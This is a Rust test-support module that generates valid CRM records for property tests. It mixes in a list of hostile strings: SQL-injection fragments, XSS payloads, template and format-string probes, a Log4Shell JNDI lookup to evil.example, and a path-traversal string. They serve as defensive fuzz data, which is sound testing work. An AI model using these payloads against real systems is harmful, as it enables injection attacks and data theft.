//! Proptest strategies for the domain's inputs, for hosts' own property tests.
//!
//! Every strategy here yields **valid** input (it passes core validation), built from realistic
//! values mixed with [`hostile_text`]: SQL fragments, markup, quotes, non-Latin scripts and emoji
//! that a store must keep verbatim. Generating is cheap: values come from small fixed lists and
//! short patterns, so thousands of cases run in milliseconds.
//!
//! ```ignore
//! use crm_core::testkit::strategies;
//! use proptest::prelude::*;
//!
//! proptest! {
//!     #[test]
//!     fn leads_round_trip(new in strategies::new_lead()) {
//!         // create through your own Crm and compare…
//!     }
//! }
//! ```

use chrono::NaiveDate;
use proptest::collection::vec;
use proptest::option;
use proptest::prelude::*;
use proptest::sample::select;
use serde_json::Value;

use crate::model::{CustomFields, LeadPatch, LeadStatus, Money, NewAccount, NewContact, NewDeal, NewLead};
use crate::scope::Role;

/// The currency codes [`new_deal`] picks from (all active ISO 4217 codes).
pub const CURRENCIES: [&str; 6] = ["EUR", "USD", "GBP", "JPY", "CHF", "SEK"];

/// Text that tends to break naive stores and renderers — SQL fragments, markup, quotes, template
/// syntax, right-to-left and combining characters, emoji — yet is valid in any name-like field:
/// at most 200 characters, never blank, and free of control characters.
pub fn hostile_text() -> impl Strategy<Value = String> {
    select(HOSTILE.to_vec()).prop_map(str::to_owned)
}

const HOSTILE: [&str; 30] = [
    "'; DROP TABLE leads; --",
    "Robert'); DROP TABLE students;--",
    "\" OR 1=1 --",
    "' OR '1'='1",
    "1; SELECT * FROM users WHERE tenant_id <> tenant_id",
    "$$; DELETE FROM leads; $$",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table>",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n%x",
    "../../etc/passwd",
    "C:\\Windows\\System32",
    "100% _match_ [a-z]*",
    "NULL",
    "null",
    "O'Brien & \"Sons\"",
    "`backtick` 'single' \"double\"",
    "Zoë Ångström-Øresund",
    "李小龙",
    "Ελληνικά Ψ",
    "مرحبا بالعالم",
    "\u{202E}fdp.exe",
    "e\u{301}te\u{301} (combining)",
    "Ａｃｍｅ ｆｕｌｌｗｉｄｔｈ",
    "🙂🚀🔥",
    "👩\u{200D}💻 dev",
    "Straße İstanbul ﬁne",
    "\u{FEFF}bom-prefixed",
];

const FIRST_NAMES: [&str; 12] =
    ["Jane", "John", "José", "Zoë", "Åsa", "Mohammed", "Mei", "Olu", "Priya", "Siobhán", "Łukasz", "Yūki"];
const LAST_NAMES: [&str; 12] = [
    "Doe",
    "Smith",
    "García",
    "O'Brien",
    "Nguyễn",
    "Müller",
    "van der Berg",
    "Kowalski",
    "Okafor",
    "Tanaka",
    "Ólafsdóttir",
    "D'Angelo",
];
const COMPANIES: [&str; 10] = [
    "Acme",
    "Globex Corporation",
    "Initech",
    "Umbrella Corp.",
    "Stark Industries",
    "Wayne Enterprises",
    "Müller & Söhne GmbH",
    "株式会社サンプル",
    "O'Reilly Media",
    "AT&T",
];
const TITLES: [&str; 6] = ["CEO", "CTO", "Head of Sales", "VP, Engineering", "Buyer", "Office Manager"];
const SOURCES: [&str; 5] = ["web", "referral", "event", "cold call", "partner"];
const INDUSTRIES: [&str; 5] = ["Software", "Manufacturing", "Retail", "Healthcare", "Finance"];
const DOMAINS: [&str; 6] =
    ["example.com", "acme.example", "mail.example.org", "bücher.example", "xn--bcher-kva.example", "a-b.io"];

/// Realistic or hostile text, mostly realistic.
fn text_from(list: &'static [&'static str]) -> impl Strategy<Value = String> {
    prop_oneof![4 => select(list).prop_map(str::to_owned), 1 => hostile_text()].boxed()
}

/// A given name: realistic (including non-ASCII) or [`hostile_text`].
pub fn first_name() -> impl Strategy<Value = String> {
    text_from(&FIRST_NAMES)
}

/// A family name: realistic (apostrophes, particles, diacritics) or [`hostile_text`].
pub fn last_name() -> impl Strategy<Value = String> {
    text_from(&LAST_NAMES)
}

/// A company name: realistic (ampersands, apostrophes, CJK) or [`hostile_text`].
pub fn company() -> impl Strategy<Value = String> {
    text_from(&COMPANIES)
}

/// A job title.
pub fn title() -> impl Strategy<Value = String> {
    text_from(&TITLES)
}

/// A valid e-mail address: lower- or mixed-case, with `+tags`, dots and apostrophes in the local
/// part, and ASCII or internationalized domains.
pub fn email() -> impl Strategy<Value = String> {
    let local = prop_oneof![
        4 => "[a-z]{1,8}(\\.[a-z]{1,8})?(\\+[a-z0-9]{1,4})?",
        1 => select(vec!["o'brien", "Jane.Doe", "x", "first_last-1", "jörg"]).prop_map(str::to_owned),
    ];
    (local, select(DOMAINS.to_vec())).prop_map(|(local, domain)| format!("{local}@{domain}")).boxed()
}

/// A valid phone number: digits with `+`, spaces, dashes, parentheses and dots.
pub fn phone() -> impl Strategy<Value = String> {
    prop_oneof!["\\+[1-9][0-9]{1,2} [0-9]{3}-[0-9]{4}", "\\([0-9]{3}\\) [0-9]{3}\\.[0-9]{4}", "[0-9]{3,12}",]
        .boxed()
}

/// A web domain for accounts (`acme.example`).
pub fn domain() -> impl Strategy<Value = String> {
    select(DOMAINS.to_vec()).prop_map(str::to_owned)
}

/// A small custom-fields object (often empty): valid names, scalar or list values, hostile text.
pub fn custom_fields() -> impl Strategy<Value = CustomFields> {
    let key = select(vec!["tier", "score", "vip", "tags", "region", "note"]);
    let value = prop_oneof![
        text_from(&COMPANIES).prop_map(Value::String),
        (-1_000_000_000i64..1_000_000_000).prop_map(Value::from),
        any::<bool>().prop_map(Value::Bool),
        Just(Value::Null),
        vec(hostile_text(), 0..3).prop_map(|v| Value::Array(v.into_iter().map(Value::String).collect())),
    ];
    prop_oneof![
        2 => Just(CustomFields::new()),
        1 => vec((key, value), 1..4)
            .prop_map(|pairs| pairs.into_iter().map(|(k, v)| (k.to_owned(), v)).collect()),
    ]
    .boxed()
}

/// A lead status a caller may set: every status but `converted` (which only conversion sets).
pub fn lead_status_settable() -> impl Strategy<Value = LeadStatus> {
    select(vec![LeadStatus::New, LeadStatus::Contacted, LeadStatus::Qualified, LeadStatus::Unqualified])
}

/// Any role, `owner` included.
pub fn role() -> impl Strategy<Value = Role> {
    select(Role::ALL.to_vec())
}

/// A valid new lead: realistic and hostile names, valid e-mails and phones, an optional settable
/// status, and always at least one of `last_name`, `email`, `company`. The owner is left unset
/// (the creator), since user ids depend on the tenant.
pub fn new_lead() -> impl Strategy<Value = NewLead> {
    (
        (option::of(first_name()), option::of(last_name()), option::of(email()), option::of(company())),
        (option::of(phone()), option::of(title()), option::of(text_from(&SOURCES))),
        option::of(lead_status_settable()),
        custom_fields(),
        // Used when none of last_name, email and company came out.
        last_name(),
    )
        .prop_map(
            |((first_name, last_name, email, company), (phone, title, source), status, cf, fallback)| {
                let last_name = match (&last_name, &email, &company) {
                    (None, None, None) => Some(fallback),
                    _ => last_name,
                };
                NewLead {
                    first_name,
                    last_name,
                    email,
                    phone,
                    company,
                    title,
                    source,
                    status,
                    owner_id: None,
                    custom_fields: cf,
                }
            },
        )
        .boxed()
}

/// A valid new contact: always at least one of `first_name`, `last_name`, `email`; no account and
/// no explicit owner.
pub fn new_contact() -> impl Strategy<Value = NewContact> {
    (
        (option::of(first_name()), option::of(last_name()), option::of(email())),
        option::of(phone()),
        option::of(title()),
        custom_fields(),
        first_name(),
    )
        .prop_map(|((first_name, last_name, email), phone, title, cf, fallback)| {
            let first_name = match (&first_name, &last_name, &email) {
                (None, None, None) => Some(fallback),
                _ => first_name,
            };
            NewContact {
                first_name,
                last_name,
                email,
                phone,
                title,
                account_id: None,
                owner_id: None,
                custom_fields: cf,
            }
        })
        .boxed()
}

/// A valid new account: a company name (possibly hostile), an optional domain and industry.
pub fn new_account() -> impl Strategy<Value = NewAccount> {
    (company(), option::of(domain()), option::of(text_from(&INDUSTRIES)), custom_fields())
        .prop_map(|(name, domain, industry, custom_fields)| NewAccount {
            name,
            domain,
            industry,
            owner_id: None,
            custom_fields,
        })
        .boxed()
}

/// Money in one of [`CURRENCIES`], from zero up to ten billion minor units.
pub fn money() -> impl Strategy<Value = Money> {
    (0i64..=10_000_000_000, select(CURRENCIES.to_vec()))
        .prop_map(|(amount_minor, currency)| Money { amount_minor, currency: currency.to_owned() })
}

/// A valid new deal in the tenant's default pipeline (no pipeline or stage given): optional
/// money, probability 0–100 and close date; no account, contact or explicit owner.
pub fn new_deal() -> impl Strategy<Value = NewDeal> {
    let date = (0u32..2000).prop_map(|days| {
        NaiveDate::from_ymd_opt(2025, 1, 1).expect("valid date") + chrono::Days::new(u64::from(days))
    });
    (
        prop_oneof![
            3 => select(vec!["Renewal 2026", "Pilot", "Enterprise licence", "Q3 upsell"]).prop_map(str::to_owned),
            1 => hostile_text(),
        ],
        option::of(money()),
        option::of(0i32..=100),
        option::of(date),
        custom_fields(),
    )
        .prop_map(|(name, amount, probability, expected_close_date, custom_fields)| NewDeal {
            name,
            amount,
            pipeline_id: None,
            stage: None,
            expected_close_date,
            probability,
            account_id: None,
            contact_id: None,
            owner_id: None,
            custom_fields,
        })
        .boxed()
}

/// Sets a field rarely, and when set, clears it now and then.
fn patch_opt<T: std::fmt::Debug + Clone + 'static>(
    value: impl Strategy<Value = T> + 'static,
) -> impl Strategy<Value = Option<Option<T>>> {
    prop_oneof![
        3 => Just(None),
        2 => value.prop_map(|v| Some(Some(v))),
        1 => Just(Some(None)),
    ]
    .boxed()
}

/// A lead patch with valid values: each field absent, set or cleared (`Some(None)`); a settable
/// status; sometimes new custom fields. The owner is left unchanged. Clearing `last_name`,
/// `email` and `company` together makes the *result* invalid, which callers should expect.
pub fn lead_patch() -> impl Strategy<Value = LeadPatch> {
    (
        (patch_opt(first_name()), patch_opt(last_name()), patch_opt(email()), patch_opt(phone())),
        (patch_opt(company()), patch_opt(title()), patch_opt(text_from(&SOURCES))),
        option::weighted(0.4, lead_status_settable()),
        option::weighted(0.2, custom_fields()),
    )
        .prop_map(|((first_name, last_name, email, phone), (company, title, source), status, cf)| LeadPatch {
            first_name,
            last_name,
            email,
            phone,
            company,
            title,
            source,
            status,
            owner_id: None,
            custom_fields: cf,
        })
        .boxed()
}

#[cfg(test)]
mod tests {
    use proptest::strategy::ValueTree;
    use proptest::test_runner::TestRunner;

    use super::*;
    use crate::error::FieldError;
    use crate::model::{Account, Contact, Deal, Lead, Record, RecordMeta};
    use crate::validate;

    fn meta<T>() -> RecordMeta<T> {
        RecordMeta {
            id: crate::Id::from_uuid(uuid::Uuid::from_u128(1)),
            tenant_id: crate::Id::from_uuid(uuid::Uuid::from_u128(2)),
            version: 1,
            created_at: chrono::DateTime::UNIX_EPOCH,
            updated_at: chrono::DateTime::UNIX_EPOCH,
            deleted_at: None,
        }
    }

    fn samples<S: Strategy>(strategy: S, n: usize) -> Vec<S::Value> {
        let mut runner = TestRunner::deterministic();
        (0..n).map(|_| strategy.new_tree(&mut runner).expect("value").current()).collect()
    }

    fn assert_valid<R: Record>(record: &R) {
        let mut errors: Vec<FieldError> = Vec::new();
        record.validate(&mut errors);
        assert!(errors.is_empty(), "{record:?}: {errors:?}");
    }

    #[test]
    fn generated_inputs_are_valid() {
        for text in HOSTILE {
            assert!(!text.trim().is_empty() && !text.chars().any(char::is_control), "{text:?}");
            assert!(text.chars().count() <= validate::MAX_NAME);
        }
        for new in samples(new_lead(), 300) {
            assert!(new.status != Some(LeadStatus::Converted));
            assert_valid(&Lead::create(new, meta(), None).expect("lead"));
        }
        for new in samples(new_contact(), 300) {
            assert_valid(&Contact::create(new, meta(), None).expect("contact"));
        }
        for new in samples(new_account(), 300) {
            assert_valid(&Account::create(new, meta(), None).expect("account"));
        }
        for new in samples(new_deal(), 300) {
            let mut deal = Deal::create(new, meta(), None).expect("deal");
            deal.stage = "prospecting".into();
            assert_valid(&deal);
        }
        for patch in samples(lead_patch(), 300) {
            let base = NewLead { last_name: Some("Doe".into()), ..NewLead::default() };
            let mut lead = Lead::create(base, meta(), None).expect("lead");
            let mut errors = Vec::new();
            lead.apply(patch, &mut errors);
            lead.validate(&mut errors);
            // Only the "one of last_name, email or company" rule may fail.
            assert!(errors.iter().all(|e| e.field == "last_name"), "{errors:?}");
        }
    }
}
